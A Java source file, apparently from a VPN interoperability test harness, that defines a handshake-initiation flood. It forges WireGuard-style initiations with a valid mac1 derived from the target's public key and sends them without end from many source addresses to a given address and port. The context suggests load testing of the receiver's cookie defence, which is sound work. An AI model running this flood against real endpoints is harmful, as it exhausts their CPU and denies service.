package dev.warren.interop.speed;

import dev.warren.crypto.Blake2s;
import dev.warren.crypto.PublicKey;
import dev.warren.crypto.RandomSource;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.channels.DatagramChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;

/**
 * Sends forged initiations as fast as one core can, until it is killed: a process of its own, in
 * the namespace beside the victim's.
 *
 * <p>Whoever knows a device's public key can make a right mac1; the rest is random. So each message
 * costs its receiver a Diffie-Hellman, unless that counts as under load and asks for a cookie.
 * Cookies are not answered: the sources are many and could as well be spoofed.
 *
 * <p><b>Shape:</b> initiation, 148 bytes: type 1 (u32, little-endian), sender's index (4),
 * ephemeral (32), static (48), timestamp (28), mac1 (16) over all before it, mac2 (16), here zeros.
 */
public final class ForgedFlood {
  /** Addresses of the senders; the host routes all of them to itself. */
  static final String SOURCES = "198.18.0.0/16";

  private static final int SOURCE_COUNT = 256;

  /** Forged beforehand: the flood is to be limited by the network and not by its own hashing. */
  private static final int MESSAGE_COUNT = 8192;

  private static final int MESSAGE_BYTES = 148;
  private static final int MAC1_OFFSET = 116;

  private ForgedFlood() {}

  /** Arguments: the victim's public key, address and port. */
  public static void main(String[] arguments) throws IOException {
    PublicKey key = Objects.requireNonNull(PublicKey.parseBase64(arguments[0]));
    InetSocketAddress victim = new InetSocketAddress(arguments[1], Integer.parseInt(arguments[2]));
    ByteBuffer[] messages = new ByteBuffer[MESSAGE_COUNT];
    for (int i = 0; i < messages.length; i++) {
      messages[i] = ByteBuffer.allocateDirect(MESSAGE_BYTES).put(forge(key));
    }
    DatagramChannel[] sources = new DatagramChannel[SOURCE_COUNT];
    for (int i = 0; i < sources.length; i++) {
      InetAddress address = InetAddress.ofLiteral("198.18.%d.%d".formatted(i % 199, 1 + i % 251));
      sources[i] = DatagramChannel.open().bind(new InetSocketAddress(address, 0)).connect(victim);
      sources[i].configureBlocking(false);
    }
    for (int i = 0; ; i++) {
      send(sources[i % SOURCE_COUNT], messages[i & (MESSAGE_COUNT - 1)]);
    }
  }

  private static void send(DatagramChannel source, ByteBuffer message) {
    try {
      source.write(message.rewind());
    } catch (IOException e) {
      // Refused, or no room: a flood does not care.
    }
  }

  /** One more of them. */
  static byte[] forge(PublicKey victim) {
    byte[] message = new byte[MESSAGE_BYTES];
    RandomSource.secure().fill(message, 0, MAC1_OFFSET);
    ByteBuffer.wrap(message).order(ByteOrder.LITTLE_ENDIAN).putInt(1);
    byte[] macKey = new byte[Blake2s.HASH_BYTES];
    Blake2s blake = new Blake2s();
    blake.reset(Blake2s.HASH_BYTES);
    blake.update("mac1----".getBytes(StandardCharsets.US_ASCII));
    blake.update(victim.bytes());
    blake.finish(macKey, 0);
    blake.reset(Blake2s.MAC_BYTES, macKey, 0, macKey.length);
    blake.update(message, 0, MAC1_OFFSET);
    blake.finish(message, MAC1_OFFSET);
    return message;
  }

  /** The command line of the process, for the same JVM and classes as this one's. */
  static List<String> commandLine(String victimKey, String address, int port) {
    List<String> argv = new ArrayList<>(ChildJvm.of(ForgedFlood.class));
    argv.addAll(List.of(victimKey, address, "" + port));
    return argv;
  }
}
